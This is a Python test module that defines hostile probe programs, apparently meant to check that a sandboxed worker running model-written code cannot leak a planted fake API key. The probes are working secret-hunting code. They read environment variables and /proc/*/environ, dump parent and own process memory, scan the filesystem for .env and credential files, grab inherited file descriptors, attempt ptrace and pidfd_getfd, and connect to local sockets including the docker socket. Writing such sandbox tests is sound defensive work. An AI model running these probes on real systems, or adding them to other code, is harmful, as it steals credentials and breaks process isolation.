"""Hostile Program-of-Thought programs that hunt for a provider key held by the worker.

Each probe is a complete program: it tries one family of routes to the worker's secrets, counts
what it could read, and ends with `ans = "probe=NAME tried=N read=M found=[...]"`, where `found`
lists every string shaped like the key (`sk-test-SECRET-` + 32 hex digits) that it saw. It also
prints the same line. A probe never contains the key itself: it knows only its shape, so any
`found` entry, any stored answer or any output holding the key's random part is a real leak.

`{cwd}` in a probe is the worker's working directory (where the test puts a world-readable
`.env`), as an attacker might guess it.
"""

from __future__ import annotations

import secrets

KEY_PREFIX = "sk-test-SECRET-"


def make_key() -> str:
    return KEY_PREFIX + secrets.token_hex(16)


_HEAD = r"""
import os, re, sys, time
PAT = re.compile(('sk-test-' + 'SECRET-').encode() + rb'[0-9a-f]{32}')
START = time.monotonic()
tried = 0
read = 0
found = set()
def look(data):
    global read
    if isinstance(data, str):
        data = data.encode('utf-8', 'surrogateescape')
    read += 1
    found.update(m.group(0).decode() for m in PAT.finditer(data))
def attempt(fn, *args):
    global tried
    tried += 1
    try:
        data = fn(*args)
    except BaseException:
        return None
    if data:
        look(data)
    return data
def slurp(path, limit=1 << 16):
    with open(path, 'rb') as f:
        return f.read(limit)
def budget_left(seconds):
    return time.monotonic() - START < seconds
"""

_TAIL = r"""
ans = f"probe={NAME} tried={tried} read={read} found={sorted(found)}"
print(ans)
"""


def _probe(name: str, body: str) -> str:
    return f"NAME = {name!r}\n{_HEAD}\n{body.strip()}\n{_TAIL}"


PROBES: dict[str, str] = {
    "environ": _probe(
        "environ",
        r"""
attempt(lambda: repr(dict(os.environ)))
attempt(lambda: repr(dict(os.environb)))
import ctypes
def c_environ():
    env = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
    out, i = [], 0
    while env[i] is not None:
        out.append(env[i])
        i += 1
    return b'\n'.join(out)
attempt(c_environ)
for name in ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'KPDD_DATABASE_URL'):
    attempt(os.getenv, name, '')
""",
    ),
    "proc_environ": _probe(
        "proc_environ",
        r"""
names = ['self', 'thread-self', '1', str(os.getppid()), str(os.getpgid(0)), str(os.getsid(0))]
try:
    names += os.listdir('/proc')
except OSError:
    pass
for pid in dict.fromkeys(names):
    for leaf in ('environ', 'cmdline', 'status', 'task'):
        path = f'/proc/{pid}/{leaf}'
        if leaf == 'task':
            try:
                tasks = os.listdir(path)
            except OSError:
                continue
            for t in tasks:
                attempt(slurp, f'{path}/{t}/environ')
        else:
            attempt(slurp, path)
# hidden pids are still openable by number where /proc shows only some of them: from this one
# down (the worker and its fork-server started shortly before), then upwards
for pid in [*range(os.getpid() + 200, 0, -1), *range(os.getpid() + 200, 1 << 22)]:
    if not budget_left(2.5):
        break
    attempt(slurp, f'/proc/{pid}/environ')
""",
    ),
    "parent_memory": _probe(
        "parent_memory",
        r"""
import ctypes
targets = dict.fromkeys([os.getppid(), 1, os.getpgid(0), *range(os.getpid() - 1, os.getpid() - 400, -1)])
for pid in targets:
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
    except OSError:
        maps = []
    tried_mem = attempt(lambda: open(f'/proc/{pid}/mem', 'rb'))
    for line in maps:
        if not budget_left(3.0):
            break
        fields = line.split()
        start, end = (int(x, 16) for x in fields[0].split('-'))
        if not fields[1].startswith('r') or end - start > 32 << 20:
            continue
        def chunk(start=start, end=end):
            with open(f'/proc/{pid}/mem', 'rb') as f:
                f.seek(start)
                return f.read(end - start)
        attempt(chunk)
# process_vm_readv on the parent's stack/heap guesses
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
buf = ctypes.create_string_buffer(4096)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 4096)
for pid in targets:
    for addr in (0x400000, 0x555555554000, 0x7ffffffde000):
        remote = iovec(addr, 4096)
        def vm(pid=pid, remote=remote):
            n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if n <= 0:
                raise OSError(ctypes.get_errno(), 'process_vm_readv')
            return buf.raw[:n]
        attempt(vm)
""",
    ),
    "own_memory": _probe(
        "own_memory",
        r"""
import ctypes
for line in open('/proc/self/maps'):
    if not budget_left(3.0):
        break
    fields = line.split()
    start, end = (int(x, 16) for x in fields[0].split('-'))
    special = line.rstrip().endswith(']') and '[heap]' not in line and '[stack]' not in line
    if not fields[1].startswith('r') or end - start > 64 << 20 or special:
        continue
    attempt(ctypes.string_at, start, end - start)
""",
    ),
    "files": _probe(
        "files",
        r"""
CWD = {cwd!r}
direct = [os.path.join(CWD, n) for n in ('.env', '.env.local', 'secrets.env', 'config.toml')]
direct += ['/etc/environment', '/etc/profile', '/etc/passwd', '/etc/hostname', '/etc/hosts',
           '/root/.bashrc', '/root/.profile', '/root/.netrc', '/proc/self/cwd/.env',
           f'/proc/{os.getppid()}/cwd/.env', f'/proc/{os.getppid()}/root{CWD}/.env',
           '/proc/1/root/etc/environment', '/run/secrets/openai_api_key', '/app/.env']
for path in direct:
    attempt(slurp, path)
skip = {'/proc', '/sys', '/dev', '/usr'}
for top in ('/', CWD):
    for root, dirs, files in os.walk(top):
        boring = ('site-packages', '__pycache__', '.git')
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip and d not in boring]
        if not budget_left(3.0):
            break
        for name in files:
            attempt(slurp, os.path.join(root, name), 1 << 14)
""",
    ),
    "inherited_fds": _probe(
        "inherited_fds",
        r"""
import fcntl
for fd in range(0, 1025):
    def grab(fd=fd):
        st = os.fstat(fd)
        data = b''
        try:
            data += os.readlink(f'/proc/self/fd/{fd}').encode()
        except OSError:
            pass
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
        except OSError:
            pass
        try:
            os.lseek(fd, 0, os.SEEK_SET)
        except OSError:
            pass
        try:
            data += os.read(fd, 1 << 16)
        except OSError:
            pass
        try:
            data += os.pread(fd, 1 << 16, 0)
        except OSError:
            pass
        return data or repr(st)
    attempt(grab)
""",
    ),
    "ptrace_and_signals": _probe(
        "ptrace_and_signals",
        r"""
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_PEEKDATA = 16, 0x4206, 2
for pid in dict.fromkeys([os.getppid(), 1, os.getpgid(0)]):
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        def trace(pid=pid, request=request):
            if libc.ptrace(request, pid, None, None) != 0:
                raise OSError(ctypes.get_errno(), 'ptrace')
            return b'attached'
        attempt(trace)
    def peek(pid=pid):
        value = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(0x400000), None)
        if ctypes.get_errno():
            raise OSError(ctypes.get_errno(), 'peek')
        return value.to_bytes(8, 'little', signed=True)
    attempt(peek)
    attempt(os.kill, pid, 0)
    attempt(lambda pid=pid: os.pidfd_open(pid) and b'pidfd')
    SYS_pidfd_getfd = 438
    def getfd(pid=pid):
        pidfd = os.pidfd_open(pid)
        for target in range(3, 64):
            fd = libc.syscall(SYS_pidfd_getfd, pidfd, target, 0)
            if fd >= 0:
                return os.pread(fd, 1 << 16, 0)
        raise OSError('no fd')
    attempt(getfd)
""",
    ),
    "sockets": _probe(
        "sockets",
        r"""
import socket
def tcp(port, host='127.0.0.1'):
    s = socket.create_connection((host, port), timeout=0.2)
    s.sendall(b'GET / HTTP/1.0\r\n\r\nINFO\r\n*1\r\n$4\r\nINFO\r\n')
    return s.recv(1 << 16)
for port in (80, 443, 5432, 6379, 8000, 8080, 8765, 11211):
    attempt(tcp, port)
attempt(tcp, 443, 'api.openai.com')
def unix(path, abstract=False):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(('\0' + path) if abstract else path)
    s.sendall(b'hello')
    return s.recv(1 << 16)
for path in ('/var/run/docker.sock', '/run/docker.sock', '/tmp/.s.PGSQL.5432',
             '/var/run/postgresql/.s.PGSQL.5432', '/run/redis/redis.sock'):
    attempt(unix, path)
for name in ('kpdd', 'celery', '/tmp/.X11-unix/X0'):
    attempt(unix, name, True)
def pair():
    a, b = socket.socketpair()
    a.sendall(b'x')
    return b.recv(1)
attempt(pair)
for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_NETLINK, socket.SOCK_RAW),
                     (socket.AF_PACKET, socket.SOCK_RAW)):
    attempt(lambda: socket.socket(family, kind) and b'socket')
""",
    ),
}


def probe_programs(cwd: str) -> dict[str, str]:
    """Every probe, with the worker's working directory filled in."""
    return {name: program.replace("{cwd!r}", repr(cwd)) for name, program in PROBES.items()}
